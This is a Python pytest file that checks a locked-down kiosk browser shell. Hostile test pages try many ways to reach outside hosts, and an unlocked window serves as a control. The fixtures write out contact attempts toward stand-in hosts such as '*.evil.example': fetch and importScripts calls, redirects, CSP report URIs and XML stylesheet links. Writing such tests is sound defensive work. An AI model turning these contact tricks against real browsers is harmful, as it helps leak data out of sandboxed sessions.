"""A hostile page on the official host makes the shell contact nobody else, whatever it tries.

Runs as: root, inside tests/throw-away-machine, where kiosk-browser is installed.
"""
import contextlib
import os
import pathlib
import subprocess
import sys
import time

import pytest

HERE = pathlib.Path(__file__).resolve().parent
sys.path[:0] = [str(HERE), str(HERE.parent / "integration")]
from browser_rig import (GREEN, PAGES, Answer, Browser, Timeout, account, display, page, site,  # noqa: E402,F401
                         wait_until, write_policy)
from contact_kinds import MOVES, PARTS  # noqa: E402
from packet_watch import PacketWatch  # noqa: E402

ADDRESSES = {kind: f"127.1.{number // 250}.{number % 250 + 1}" for number, kind in enumerate({**PARTS, **MOVES})}
BY_DNS = {"dns", "dns-prefetch"}  # these hosts are in no file: a look-up is a packet to the name server
# As text: the account that runs it need not be able to read the folder of the sources.
UNLOCKED_VIEW = (HERE / "unlocked_view.py").read_text()
DRAG_SOURCE = (HERE / "drag_source.py").read_text()
SETTLE_SECONDS = 1  # the absence of a packet is no event that could be waited for
CONTROL_SECONDS = 8
CONTROL_TRIES = 3  # a drag takes time that a busy machine may not give


def host(kind):
    return f"{kind}.evil.example"


def fill(text, kind):
    return text.replace("{to}", host(kind)).replace("{evil}", f"https://{host(kind)}")


def redirect(kind, status=302):
    return Answer(status, headers=[("Location", f"https://{host(kind)}/")])


def helpers():
    """What the pages load from their own host."""
    pages = {"/empty": page(""), "/back": page("", "setTimeout(() => history.back(), 200)"), "/none.mp4": Answer(404), "/tried/parts": ""}
    for kind in ADDRESSES:
        evil = f"https://{host(kind)}/"
        javascript = "text/javascript"
        pages |= {
            f"/redirect/{kind}": redirect(kind), f"/redirect-same/{kind}": redirect(kind, 307),
            f"/redirect-twice/{kind}": Answer(301, headers=[("Location", f"/redirect/{kind}")]),
            f"/redirect-other/{kind}": redirect(kind, 303), f"/redirect-for-good/{kind}": redirect(kind, 308),
            f"/reporting/{kind}": Answer(200, b"<script>x</script>", headers=[
                ("Reporting-Endpoints", f'x="{evil}"'),
                ("Content-Security-Policy-Report-Only", "default-src 'none'; report-to x")]),
            f"/worker/{kind}": Answer(200, f"fetch('{evil}', {{mode: 'no-cors'}})".encode(), javascript),
            f"/import/{kind}": Answer(200, f"importScripts('{evil}')".encode(), javascript),
            f"/csp/{kind}": Answer(200, b"<img src=data:,x>", headers=[
                ("Content-Security-Policy", f"default-src 'none'; report-uri {evil}")]),
            f"/xml/{kind}": Answer(200, f'<?xml version="1.0"?><?xml-stylesheet href="{evil}"?><a/>'.encode(), "text/xml"),
            f"/tried/{kind}": "",
        }
    return pages


def parts_page():
    body = "".join(fill(kind.body, name) for name, kind in PARTS.items())
    scripts = "".join(f"try {{ (() => {{ {fill(kind.script, name)} }})() }} catch (error) {{}}\n"
                      for name, kind in PARTS.items())
    headers = [(name, fill(value, kind)) for kind, part in PARTS.items() for name, value in part.headers]
    text = page(body + '<iframe name="sink"></iframe>', scripts + "setTimeout(() => fetch('/tried/parts'), 2000)")
    return Answer(200, text.encode(), headers=headers)


def move_page(kind):
    """Says that it is there, then tries."""
    move = MOVES[kind]
    script = f"fetch('/tried/{kind}').then(() => {{ {fill(move.script, kind)} }})"
    headers = [(name, fill(value, kind)) for name, value in move.headers]
    return Answer(200, page(fill(move.body, kind), script).encode(), headers=headers)


class Net:
    """The hostile hosts' addresses, watched; nobody has to listen there for a packet to count."""

    def __init__(self):
        with open("/etc/hosts", "a", encoding="utf-8") as hosts:
            hosts.writelines(f"{address} {host(kind)}\n" for kind, address in ADDRESSES.items() if kind not in BY_DNS)
        pathlib.Path("/etc/resolv.conf").write_text("nameserver 127.0.0.53\noptions attempts:1 timeout:1\n")
        self.watch = PacketWatch()

    def contacted(self):
        """The kinds that got out."""
        addresses = {contact.address for contact in self.watch.contacts()}
        asked = self.watch.names()
        return {kind for kind, address in ADDRESSES.items() if address in addresses or host(kind) in asked}


@pytest.fixture(scope="module", autouse=True)
def pages(site):
    site.pages = helpers() | {"/parts": parts_page()} | {f"/move/{kind}": move_page(kind) for kind in MOVES}


@pytest.fixture(scope="module")
def net(site):
    net = Net()
    yield net
    net.watch.close()


@pytest.fixture
def unlocked(display, site):
    """Loads addresses in a window that nothing locks."""
    user = account()
    runtime = pathlib.Path(f"/run/user/{user.pw_uid}")
    runtime.mkdir(parents=True, exist_ok=True)
    os.chown(runtime, user.pw_uid, user.pw_gid)
    process = subprocess.Popen(
        ["/usr/bin/python3", "-B", "-c", UNLOCKED_VIEW], stdin=subprocess.PIPE, text=True,
        stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, user=user.pw_uid, group=user.pw_gid, extra_groups=[],
        cwd="/", env={"HOME": "/tmp", "PATH": "/usr/bin:/bin", "LANG": "C.UTF-8", "DISPLAY": display.name,
                      "XDG_RUNTIME_DIR": str(runtime)})

    def load(path):
        process.stdin.write(f"https://{PAGES}{path}\n")
        process.stdin.flush()

    yield load
    process.stdin.close()
    process.terminate()
    process.wait()


@pytest.fixture
def shell(display, site):
    browsers = []

    def start(path):
        browsers.append(Browser(write_policy(f"https://{PAGES}{path}", PAGES), display))
        return browsers[-1]

    yield start
    for browser in browsers:
        browser.close()


@contextlib.contextmanager
def offered(display, address):
    """Another program's window with ADDRESS to be dragged, unless that is empty."""
    if not address:
        yield
        return
    user = account()
    process = subprocess.Popen(
        ["/usr/bin/python3", "-B", "-c", DRAG_SOURCE, address], stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True,
        user=user.pw_uid, group=user.pw_gid, extra_groups=[], cwd="/",
        env={"HOME": "/tmp", "PATH": "/usr/bin:/bin", "LANG": "C.UTF-8", "DISPLAY": display.name})
    try:
        assert process.stdout.readline() == "ready\n"
        yield
    finally:
        process.terminate()
        process.wait()


def act(display, kind):
    if not MOVES[kind].click:
        return
    display.wait_color(GREEN)
    with offered(display, fill(MOVES[kind].drag, kind)):
        display.xdotool("mousemove", "512", "400", *MOVES[kind].click.split())


def test_an_unlocked_window_contacts_the_hosts_of_the_parts(site, net, unlocked):
    net.watch.clear()
    number = site.number()
    unlocked("/parts")
    site.wait("/tried/parts", number)
    expected = {kind for kind, part in PARTS.items() if part.control}
    wait_until(lambda: expected <= net.contacted(), f"all but {net.contacted()}", CONTROL_SECONDS)


def is_contacted_by(display, net, kind):
    act(display, kind)
    try:
        wait_until(lambda: kind in net.contacted(), kind, CONTROL_SECONDS)
    except Timeout:
        return False
    return True


def test_an_unlocked_window_contacts_the_hosts_of_the_moves(site, net, unlocked, display):
    missed = []
    for kind in (kind for kind, move in MOVES.items() if move.control):
        net.watch.clear()
        number = site.number()
        unlocked(f"/move/{kind}")
        if MOVES[kind].click:
            site.wait(f"/tried/{kind}", number)
        if not any(is_contacted_by(display, net, kind) for _ in range(CONTROL_TRIES)):
            missed.append(kind)
    assert missed == []


def test_the_shell_contacts_none_of_the_hosts_of_the_parts(site, net, shell):
    net.watch.clear()
    number = site.number()
    browser = shell("/parts")
    site.wait("/tried/parts", number, 30)
    time.sleep(SETTLE_SECONDS)
    assert net.contacted() == set() and browser.process.poll() is None


@pytest.mark.parametrize("kind", MOVES)
def test_the_shell_does_not_make_the_move(site, net, shell, display, kind):
    net.watch.clear()
    number = site.number()
    browser = shell(f"/move/{kind}")
    site.wait(f"/tried/{kind}", number)
    act(display, kind)
    time.sleep(SETTLE_SECONDS)
    assert net.contacted() == set() and browser.process.poll() is None
